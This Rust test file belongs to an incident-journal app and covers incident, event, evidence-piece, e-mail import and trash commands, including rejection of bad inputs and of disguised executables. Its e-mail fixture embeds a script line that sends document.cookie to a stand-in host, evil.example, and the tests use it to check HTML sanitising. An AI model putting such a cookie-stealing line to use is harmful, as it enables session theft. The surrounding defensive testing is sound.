//! The incident, event, piece and trash commands run by the test host: a journey through
//! them, and a bad-input table per command. Every refusal is a coded, localised error that
//! never repeats the input, and leaves the vault as it was (no row, no history, no file).

use carnet_core::Field;
use carnet_core::journal::event::EventInput;
use carnet_core::journal::incident::{IncidentFilters, IncidentInput, Status};
use carnet_core::journal::piece::{PieceInput, Preview};

use crate::error::{ErrorCode, IpcError};
use crate::flows::evidence::Content;
use crate::state::AppState;
use crate::test_host::{hostile, opened};

async fn platform(s: &AppState) -> i64 {
    let slot = s.vault.lock().await;
    sqlx::query_scalar(
        "INSERT INTO platform (name, service, created_at, updated_at)
         VALUES ('Amazon', 'marketplace', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')
         RETURNING id",
    )
    .fetch_one(slot.as_ref().unwrap().pool())
    .await
    .unwrap()
}

/// Every row of the journal's tables and the evidence files: what "nothing changed" compares.
async fn snapshot(s: &AppState, dir: &std::path::Path) -> Vec<String> {
    let slot = s.vault.lock().await;
    let pool = slot.as_ref().unwrap().pool();
    let mut out = Vec::new();
    for table in [
        "incident",
        "incident_status",
        "event",
        "event_piece",
        "piece",
        "evidence_content",
        "history",
        "search",
    ] {
        let rows: String = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
            "SELECT count(*) || ' ' || coalesce(max(rowid), 0) FROM {table}"
        )))
        .fetch_one(pool)
        .await
        .unwrap();
        out.push(format!("{table} {rows}"));
    }
    let mut files: Vec<String> = std::fs::read_dir(dir.join("evidence"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    out.extend(files);
    out
}

fn refused(e: &IpcError, bad: &str) {
    assert!(
        matches!(
            e.code,
            ErrorCode::InvalidInput
                | ErrorCode::NotFound
                | ErrorCode::TooLarge
                | ErrorCode::EmptyFile
        ),
        "{e:?}"
    );
    assert!(!e.message.is_empty());
    assert!(
        bad.trim().chars().count() < 2 || !e.message.contains(bad.trim()),
        "{e:?}"
    );
}

fn incident(platform_id: i64) -> IncidentInput {
    IncidentInput {
        platform_id,
        category: "ACC-02".into(),
        measure: Some("suspension".into()),
        title: "Compte suspendu".into(),
        occurred_on: Some("2026-03-02".into()),
        decision_on: Some("2026-03-02".into()),
        reasons_received: Some("no".into()),
        funds_held: Some("1 234,56".into()),
        ..IncidentInput::default()
    }
}

const EMAIL: &str = "From: Support <support@marketplace.example>\r\n\
Subject: =?UTF-8?Q?R=C3=A9clamation_rejet=C3=A9e?=\r\n\
Date: Tue, 3 Mar 2026 10:00:00 +0000\r\n\
Content-Type: multipart/mixed; boundary=b\r\n\
\r\n\
--b\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><body><p>Votre r&eacute;clamation est <b>rejet&eacute;e</b>.</p>\
<script>fetch('https://evil.example/'+document.cookie)</script></body></html>\r\n\
--b\r\n\
Content-Type: image/png\r\n\
Content-Disposition: attachment; filename=\"capture.png\"\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
iVBORw0KGgoAAAANSUhEUg==\r\n\
--b--\r\n";

#[tokio::test]
async fn an_incident_with_its_chronology_and_pieces() {
    let (dir, s) = opened().await;
    let p = platform(&s).await;
    let created = s.incident_save(incident(p)).await.unwrap();
    assert_eq!(created.status, Status::Open);
    assert_eq!(created.data.amounts.funds_held_cents, Some(123_456));
    assert!(!created.checks.is_empty());

    // Two pieces through the dialog, one dropped as raw bytes, one pasted as base64.
    let files = tempfile::tempdir().unwrap();
    let a = files.path().join("relevé.pdf");
    let b = files.path().join("notes.txt");
    std::fs::write(&a, b"%PDF-1.7 statement").unwrap();
    std::fs::write(&b, "Appel au support le 4 mars").unwrap();
    let added = s.pieces_add_files(created.id, &[a, b]).await.unwrap();
    assert_eq!(added.iter().map(|p| p.number).collect::<Vec<_>>(), [1, 2]);
    assert_eq!(added[0].media_type, "application/pdf");
    let png = b"\x89PNG\r\n\x1a\n image";
    let dropped = s
        .piece_add_bytes(
            created.id,
            "capture.png",
            Some("image/png"),
            Content::Bytes(png),
        )
        .await
        .unwrap();
    let pasted = s
        .piece_add_bytes(
            created.id,
            "coller.png",
            None,
            Content::Base64("iVBORw0KGgoAAAA="),
        )
        .await
        .unwrap();
    assert_eq!((dropped.number, pasted.number), (3, 4));
    assert_eq!(pasted.media_type, "image/png");

    // An e-mail: an event with its pieces; its HTML body comes out as plain text.
    let eml = files.path().join("rejet.eml");
    std::fs::write(&eml, EMAIL).unwrap();
    let imported = s.email_import(created.id, &eml, None).await.unwrap();
    assert_eq!(imported.event.data.summary, "Réclamation rejetée");
    assert_eq!(imported.pieces.len(), 2);
    let text = &imported.event.data.full_text;
    assert!(text.contains("Votre réclamation est rejetée."), "{text}");
    assert!(!text.contains("script") && !text.contains("cookie") && !text.contains("<p>"));

    let event = s
        .event_save(EventInput {
            incident_id: created.id,
            happened_on: "2026-03-04".into(),
            actor: "us".into(),
            channel: "phone".into(),
            summary: "Appel au support".into(),
            piece_ids: vec![added[1].id],
            ..EventInput::default()
        })
        .await
        .unwrap();
    s.incident_set_status(created.id, "complaint_sent".into())
        .await
        .unwrap();
    let d = s.incident_get(created.id).await.unwrap();
    assert_eq!(d.events.len(), 2);
    assert_eq!(d.pieces.len(), 6);
    assert_eq!(d.incident.piece_count, 6);
    assert_eq!(d.status_history.len(), 2);
    assert_eq!(d.pieces[1].event_ids, [event.id]);

    // Previews: text as text, the e-mail as headers and text, images as bytes.
    match s.piece_preview(added[1].id).await.unwrap() {
        Preview::Text { text, .. } => assert_eq!(text, "Appel au support le 4 mars"),
        other => panic!("{other:?}"),
    }
    match s.piece_preview(imported.pieces[0].id).await.unwrap() {
        Preview::Email {
            subject,
            attachments,
            body,
            ..
        } => {
            assert_eq!(subject, "Réclamation rejetée");
            assert_eq!(attachments, ["capture.png"]);
            assert!(!body.contains("script"));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(s.piece_image(dropped.id).await.unwrap(), png);
    assert_eq!(s.piece_preview(added[0].id).await.unwrap(), Preview::None);
    assert_eq!(
        s.piece_image(added[0].id).await.unwrap_err().code,
        ErrorCode::NotFound
    );

    // Open in another program: a private file, gone when the vault locks.
    let mut seen = None;
    let opened = s
        .piece_open_external(
            added[0].id,
            |path| {
                seen = Some(path.to_owned());
                Ok(())
            },
            |_| panic!("a PDF is opened, not only shown in its folder"),
        )
        .await
        .unwrap();
    assert_eq!(opened.file_name, "P1-relevé.pdf");
    assert!(!opened.revealed);
    let path = seen.unwrap();
    assert_eq!(std::fs::read(&path).unwrap(), b"%PDF-1.7 statement");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&path), 0o600);
        assert_eq!(mode(path.parent().unwrap()), 0o700);
    }

    // The list, the trash and back.
    let page = s.incidents_list(None).await.unwrap();
    assert_eq!(page.items.len(), 1);
    s.incident_delete(created.id).await.unwrap();
    assert!(s.incidents_list(None).await.unwrap().items.is_empty());
    assert_eq!(s.trash_list().await.unwrap().len(), 1);
    s.incident_restore(created.id).await.unwrap();
    s.piece_delete(added[1].id).await.unwrap();
    s.trash_purge("piece".into(), added[1].id).await.unwrap();
    assert_eq!(s.incident_get(created.id).await.unwrap().pieces.len(), 5);
    s.event_delete(event.id).await.unwrap();
    s.event_restore(event.id).await.unwrap();
    let _ = dir;

    s.vault_lock().await;
    assert!(!path.exists(), "removed when the vault locks");
    assert!(!path.parent().unwrap().exists());
}

#[tokio::test]
async fn incident_save_bad_inputs() {
    let (dir, s) = opened().await;
    let p = platform(&s).await;
    let mut before = snapshot(&s, dir.path()).await;
    type Edit = fn(&mut IncidentInput, String);
    let fields: Vec<(Edit, Field)> = vec![
        (|i, v| i.category = v, Field::IncidentCategory),
        (|i, v| i.measure = Some(v), Field::IncidentMeasure),
        (|i, v| i.title = v, Field::IncidentTitle),
        (|i, v| i.occurred_on = Some(v), Field::IncidentOccurredOn),
        (|i, v| i.notified_on = Some(v), Field::IncidentNotifiedOn),
        (
            |i, v| i.took_effect_on = Some(v),
            Field::IncidentTookEffectOn,
        ),
        (|i, v| i.decision_on = Some(v), Field::IncidentDecisionOn),
        (
            |i, v| i.complaint_sent_on = Some(v),
            Field::IncidentComplaintSentOn,
        ),
        (
            |i, v| i.answer_received_on = Some(v),
            Field::IncidentAnswerReceivedOn,
        ),
        (|i, v| i.referral_on = Some(v), Field::IncidentReferralOn),
        (
            |i, v| i.referral_decided_on = Some(v),
            Field::IncidentReferralDecidedOn,
        ),
        (
            |i, v| i.reasons_received = Some(v),
            Field::IncidentReasonsReceived,
        ),
        (|i, v| i.funds_held = Some(v), Field::IncidentFundsHeld),
        (|i, v| i.sales_lost = Some(v), Field::IncidentSalesLost),
        (|i, v| i.fees = Some(v), Field::IncidentFees),
        (|i, v| i.amounts_note = Some(v), Field::IncidentAmountsNote),
        (
            |i, v| i.decision_reference = Some(v),
            Field::IncidentDecisionReference,
        ),
        (|i, v| i.description = Some(v), Field::IncidentDescription),
        (|i, v| i.wanted = Some(v), Field::IncidentWanted),
        (|i, v| i.tags = vec![v], Field::IncidentTags),
    ];
    let mut accepted = 0;
    for (edit, field) in &fields {
        for bad in hostile()
            .into_iter()
            .chain(["2030-01-01".into(), "-3,00".into()])
        {
            let mut input = incident(p);
            edit(&mut input, bad.clone());
            match s.incident_save(input).await {
                Err(e) => {
                    refused(&e, &bad);
                    assert_eq!(e.field, Some(*field), "{bad:?}");
                    assert_eq!(snapshot(&s, dir.path()).await, before, "{field:?} {bad:?}");
                }
                // Blank optional fields, and text that is just text, are accepted.
                Ok(saved) => {
                    accepted += 1;
                    s.incident_delete(saved.id).await.unwrap();
                    s.trash_purge("incident".into(), saved.id).await.unwrap();
                    before = snapshot(&s, dir.path()).await;
                }
            }
        }
    }
    assert!(accepted > 0);
    for bad_platform in [0, -1, p + 1, i64::MAX, i64::MIN] {
        let mut input = incident(p);
        input.platform_id = bad_platform;
        let e = s.incident_save(input).await.unwrap_err();
        assert_eq!(e.field, Some(Field::IncidentPlatform));
    }
    for bad_id in [0, -1, 999, i64::MAX] {
        let mut input = incident(p);
        input.id = Some(bad_id);
        assert_eq!(
            s.incident_save(input).await.unwrap_err().code,
            ErrorCode::NotFound
        );
    }
    s.set_locale("en").unwrap();
    let e = s
        .incident_save(IncidentInput {
            title: String::new(),
            ..incident(p)
        })
        .await
        .unwrap_err();
    assert!(e.message.starts_with("Give a title"), "{}", e.message);
    s.vault_lock().await;
}

#[tokio::test]
async fn other_incident_commands_bad_inputs() {
    let (dir, s) = opened().await;
    let p = platform(&s).await;
    let id = s.incident_save(incident(p)).await.unwrap().id;
    let before = snapshot(&s, dir.path()).await;
    for bad in hostile()
        .into_iter()
        .chain(["OPEN".into(), "closed".into()])
    {
        let e = s.incident_set_status(id, bad.clone()).await.unwrap_err();
        refused(&e, &bad);
        assert_eq!(e.field, Some(Field::IncidentStatus));
        let e = s.trash_purge(bad.clone(), id).await.unwrap_err();
        assert_eq!(e.field, Some(Field::TrashEntity));
        for filters in [
            IncidentFilters {
                category: Some(bad.clone()),
                ..Default::default()
            },
            IncidentFilters {
                status: Some(bad.clone()),
                ..Default::default()
            },
            IncidentFilters {
                from: Some(bad.clone()),
                ..Default::default()
            },
        ] {
            if bad.trim().is_empty() {
                continue;
            }
            let e = s.incidents_list(Some(filters)).await.unwrap_err();
            refused(&e, &bad);
        }
    }
    for page in [
        IncidentFilters {
            limit: Some(0),
            ..Default::default()
        },
        IncidentFilters {
            offset: Some(-5),
            ..Default::default()
        },
        IncidentFilters {
            limit: Some(100_000),
            ..Default::default()
        },
    ] {
        assert_eq!(
            s.incidents_list(Some(page)).await.unwrap_err().field,
            Some(Field::IncidentList)
        );
    }
    for bad_id in [0, -1, id + 1, i64::MAX, i64::MIN] {
        for e in [
            s.incident_get(bad_id).await.map(|_| ()).unwrap_err(),
            s.incident_set_status(bad_id, "open".into())
                .await
                .map(|_| ())
                .unwrap_err(),
            s.incident_delete(bad_id).await.unwrap_err(),
            s.incident_restore(bad_id).await.map(|_| ()).unwrap_err(),
            s.event_delete(bad_id).await.unwrap_err(),
            s.event_restore(bad_id).await.map(|_| ()).unwrap_err(),
            s.piece_delete(bad_id).await.unwrap_err(),
            s.piece_restore(bad_id).await.map(|_| ()).unwrap_err(),
            s.piece_preview(bad_id).await.map(|_| ()).unwrap_err(),
            s.piece_image(bad_id).await.map(|_| ()).unwrap_err(),
            s.piece_open_external(bad_id, |_| Ok(()), |_| Ok(()))
                .await
                .map(|_| ())
                .unwrap_err(),
            s.trash_purge("incident".into(), bad_id).await.unwrap_err(),
        ] {
            assert_eq!(e.code, ErrorCode::NotFound, "{bad_id}");
        }
    }
    // Restoring or purging what is not in the trash.
    assert_eq!(
        s.incident_restore(id).await.unwrap_err().code,
        ErrorCode::NotFound
    );
    assert_eq!(
        s.trash_purge("incident".into(), id).await.unwrap_err().code,
        ErrorCode::NotFound
    );
    assert_eq!(snapshot(&s, dir.path()).await, before);
    s.vault_lock().await;
}

#[tokio::test]
async fn event_save_bad_inputs() {
    let (dir, s) = opened().await;
    let p = platform(&s).await;
    let id = s.incident_save(incident(p)).await.unwrap().id;
    let other = s.incident_save(incident(p)).await.unwrap().id;
    let foreign = s
        .piece_add_bytes(other, "x.txt", None, Content::Bytes(b"x"))
        .await
        .unwrap();
    let good = || EventInput {
        incident_id: id,
        happened_on: "2026-03-04".into(),
        actor: "platform".into(),
        channel: "email".into(),
        summary: "Message".into(),
        ..EventInput::default()
    };
    let mut before = snapshot(&s, dir.path()).await;
    type Edit = fn(&mut EventInput, String);
    let fields: Vec<(Edit, Field)> = vec![
        (|e, v| e.happened_on = v, Field::EventDate),
        (|e, v| e.actor = v, Field::EventActor),
        (|e, v| e.channel = v, Field::EventChannel),
        (|e, v| e.summary = v, Field::EventSummary),
        (|e, v| e.full_text = Some(v.repeat(2)), Field::EventFullText),
    ];
    for (edit, field) in &fields {
        for bad in hostile() {
            let mut input = good();
            edit(&mut input, bad.clone());
            match s.event_save(input).await {
                Err(e) => {
                    refused(&e, &bad);
                    assert_eq!(e.field, Some(*field), "{bad:?}");
                    assert_eq!(snapshot(&s, dir.path()).await, before);
                }
                Ok(ev) => {
                    s.event_delete(ev.id).await.unwrap();
                    s.trash_purge("event".into(), ev.id).await.unwrap();
                    before = snapshot(&s, dir.path()).await;
                }
            }
        }
    }
    let before = snapshot(&s, dir.path()).await;
    for pieces in [vec![0], vec![-1], vec![foreign.id], vec![i64::MAX]] {
        let e = s
            .event_save(EventInput {
                piece_ids: pieces,
                ..good()
            })
            .await
            .unwrap_err();
        assert_eq!(e.field, Some(Field::EventPieces));
    }
    for incident_id in [0, -1, 999] {
        let e = s
            .event_save(EventInput {
                incident_id,
                ..good()
            })
            .await
            .unwrap_err();
        assert_eq!(e.code, ErrorCode::NotFound);
    }
    assert_eq!(snapshot(&s, dir.path()).await, before);
    s.vault_lock().await;
}

#[tokio::test]
async fn piece_commands_bad_inputs() {
    let (dir, s) = opened().await;
    let p = platform(&s).await;
    let id = s.incident_save(incident(p)).await.unwrap().id;
    let piece = s
        .piece_add_bytes(id, "a.txt", None, Content::Bytes(b"text"))
        .await
        .unwrap();
    let mut before = snapshot(&s, dir.path()).await;
    for bad in hostile() {
        // Names: refused when blank, or cleaned to their last component.
        match s
            .piece_add_bytes(id, &bad, None, Content::Bytes(b"x"))
            .await
        {
            Err(e) => {
                refused(&e, &bad);
                assert_eq!(e.field, Some(Field::PieceName));
                assert_eq!(snapshot(&s, dir.path()).await, before);
            }
            Ok(added) => {
                assert!(
                    !added.original_name.contains('/') && !added.original_name.contains('\u{202E}')
                );
                s.piece_delete(added.id).await.unwrap();
                s.trash_purge("piece".into(), added.id).await.unwrap();
                before = snapshot(&s, dir.path()).await;
            }
        }
        if !bad.trim().is_empty() {
            let e = s
                .piece_add_bytes(id, "a.png", Some(&bad), Content::Bytes(b"x"))
                .await
                .unwrap_err();
            assert_eq!(e.field, Some(Field::PieceMediaType), "{bad:?}");
            let e = s
                .piece_add_bytes(id, "a.png", None, Content::Base64(&format!("{bad}!")))
                .await
                .unwrap_err();
            assert_eq!(e.field, Some(Field::PieceContent), "{bad:?}");
        }
        let e = s
            .piece_save(PieceInput {
                id: piece.id,
                title: "ok".into(),
                dated_on: Some(format!("{bad}x")),
                note: None,
            })
            .await
            .unwrap_err();
        assert_eq!(e.field, Some(Field::PieceDate));
        if let Err(e) = s
            .piece_save(PieceInput {
                id: piece.id,
                title: bad.clone(),
                ..PieceInput::default()
            })
            .await
        {
            assert_eq!(e.field, Some(Field::PieceTitle));
        } else {
            s.piece_save(PieceInput {
                id: piece.id,
                title: "a".into(),
                ..PieceInput::default()
            })
            .await
            .unwrap();
        }
    }
    let before = snapshot(&s, dir.path()).await;
    assert_eq!(
        s.piece_add_bytes(id, "vide.txt", None, Content::Bytes(b""))
            .await
            .unwrap_err()
            .code,
        ErrorCode::EmptyFile
    );
    // Over 200 MB of base64 is refused before it is decoded.
    let huge = "A".repeat(300 * 1024 * 1024);
    assert_eq!(
        s.piece_add_bytes(id, "big.png", None, Content::Base64(&huge))
            .await
            .unwrap_err()
            .code,
        ErrorCode::TooLarge
    );
    drop(huge);
    assert_eq!(
        s.piece_add_bytes(id + 100, "a.txt", None, Content::Bytes(b"x"))
            .await
            .unwrap_err()
            .code,
        ErrorCode::NotFound
    );
    let files = tempfile::tempdir().unwrap();
    let empty = files.path().join("vide.pdf");
    std::fs::write(&empty, b"").unwrap();
    let good = files.path().join("ok.pdf");
    std::fs::write(&good, b"%PDF").unwrap();
    let missing = files.path().join("absent.pdf");
    for paths in [vec![good.clone(), empty], vec![good.clone(), missing]] {
        assert!(s.pieces_add_files(id, &paths).await.is_err());
    }
    // E-mails: what is not one is refused, whatever its name.
    for (n, bytes) in [&b"hello"[..], b"", b"\x89PNG\r\n\x1a\n", &[0xffu8; 300]]
        .iter()
        .enumerate()
    {
        let path = files.path().join(format!("{n}.eml"));
        std::fs::write(&path, bytes).unwrap();
        let e = s.email_import(id, &path, None).await.unwrap_err();
        assert_eq!(e.field, Some(Field::EmailFile));
    }
    let eml = files.path().join("ok.eml");
    std::fs::write(&eml, EMAIL).unwrap();
    for bad in hostile().into_iter().filter(|b| !b.trim().is_empty()) {
        let e = s
            .email_import(id, &eml, Some(bad.clone()))
            .await
            .unwrap_err();
        assert_eq!(e.field, Some(Field::EventActor), "{bad:?}");
    }
    assert_eq!(
        s.email_import(999, &eml, None).await.unwrap_err().code,
        ErrorCode::NotFound
    );
    assert_eq!(snapshot(&s, dir.path()).await, before);
    s.vault_lock().await;
}

#[tokio::test]
async fn every_journal_command_says_when_the_vault_is_locked() {
    let (_dir, s) = opened().await;
    s.vault_lock().await;
    let errors = [
        s.incidents_list(None).await.map(|_| ()).unwrap_err(),
        s.incident_get(1).await.map(|_| ()).unwrap_err(),
        s.incident_save(incident(1)).await.map(|_| ()).unwrap_err(),
        s.incident_set_status(1, "open".into())
            .await
            .map(|_| ())
            .unwrap_err(),
        s.incident_delete(1).await.unwrap_err(),
        s.incident_restore(1).await.map(|_| ()).unwrap_err(),
        s.event_save(EventInput {
            incident_id: 1,
            happened_on: "2026-01-01".into(),
            actor: "us".into(),
            channel: "other".into(),
            summary: "x".into(),
            ..EventInput::default()
        })
        .await
        .map(|_| ())
        .unwrap_err(),
        s.event_delete(1).await.unwrap_err(),
        s.trash_list().await.map(|_| ()).unwrap_err(),
        s.trash_purge("piece".into(), 1).await.unwrap_err(),
        s.piece_add_bytes(1, "a.txt", None, Content::Bytes(b"x"))
            .await
            .map(|_| ())
            .unwrap_err(),
        s.piece_save(PieceInput {
            id: 1,
            title: "x".into(),
            ..PieceInput::default()
        })
        .await
        .map(|_| ())
        .unwrap_err(),
        s.piece_preview(1).await.map(|_| ()).unwrap_err(),
        s.piece_open_external(1, |_| Ok(()), |_| Ok(()))
            .await
            .map(|_| ())
            .unwrap_err(),
    ];
    for e in errors {
        assert_eq!(e.code, ErrorCode::VaultLocked);
    }
    s.vault_lock().await;
}

/// A piece the counterparty named like a document but that is a program, a script or a
/// shortcut is never handed to the system's program (which would run it): it is only shown in
/// its folder, and the answer says so for the UI's warning.
#[tokio::test]
async fn a_program_disguised_as_a_piece_is_only_shown_in_its_folder() {
    let (_dir, s) = opened().await;
    let p = platform(&s).await;
    let id = s.incident_save(incident(p)).await.unwrap().id;
    for name in [
        "facture.pdf.exe",
        "aide.hta",
        "script.js",
        "raccourci.lnk",
        "lanceur.desktop",
    ] {
        let piece = s
            .piece_add_bytes(id, name, None, Content::Bytes(b"MZ\x90\x00"))
            .await
            .unwrap();
        let mut shown = None;
        let answer = s
            .piece_open_external(
                piece.id,
                |_| panic!("{name} must not be opened"),
                |path| {
                    shown = Some(path.to_owned());
                    Ok(())
                },
            )
            .await
            .unwrap();
        assert!(answer.revealed, "{name}");
        assert!(shown.unwrap().ends_with(&answer.file_name));
    }
    s.vault_lock().await;
}
